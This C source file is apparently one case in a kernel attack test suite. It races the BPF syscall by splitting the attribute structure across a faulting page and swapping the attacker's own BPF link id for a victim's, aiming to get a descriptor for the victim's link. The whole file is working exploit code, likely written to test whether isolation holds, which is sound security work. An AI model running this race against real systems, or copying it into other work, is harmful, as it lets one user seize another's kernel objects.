// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * As race-attributes, without leaving it to chance: the attributes lie on two pages, of which the second isn't there. The kernel, which
 * has read the id of a link of the attacker's, waits for it, and meanwhile that becomes the id of one of the victim's.
 * Success: the victim's link.
 */
#include "bpf.h"
#include "fault.h"

/* How much of the attributes is on the first page: the id alone, or half of it. */
static unsigned before;
static uint32_t own, others;

static void exchange(char *first)
{
	memcpy(first + PAGE - before, &others, before < 4 ? before : 4);
}

static void run(void)
{
	static char rest[PAGE];
	struct program program = { .type = BPF_PROG_TYPE_CGROUP_SKB, .attach_type = BPF_CGROUP_INET_INGRESS };
	int group = must("open a cgroup", open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY)), pass;
	char *pages;

	pass = must("BPF_PROG_LOAD", LOAD(program, SET(BPF_REG_0, 1), RETURN));
	own = must("BPF_OBJ_GET_INFO_BY_FD", number_of(must("BPF_LINK_CREATE", create_link(pass, group, BPF_CGROUP_INET_INGRESS))));
	others = id_of("victim/links/hold");
	pages = make_fault(exchange, rest);
	for (before = 1; before <= 12; before++) {
		int link;

		memcpy(pages + PAGE - before, &own, before < 4 ? before : 4);
		memset(rest, 0, sizeof(rest));
		if (before < 4)
			memcpy(rest, (char *)&others + before, 4 - before);
		arm_fault(pages);
		link = act("BPF_LINK_GET_FD_BY_ID", bpf(BPF_LINK_GET_FD_BY_ID, (void *)(pages + PAGE - before), 16));
		if (link >= 0 && must("BPF_OBJ_GET_INFO_BY_FD", number_of(link)) == others)
			got("a descriptor of a link");
		if (link >= 0)
			close(link);
	}
	act("BPF_LINK_GET_FD_BY_ID", by_id(BPF_LINK_GET_FD_BY_ID, others, 0));
}

ATTACK("exchanges the id of a link while the kernel waits for the rest of the attributes", .run = run);
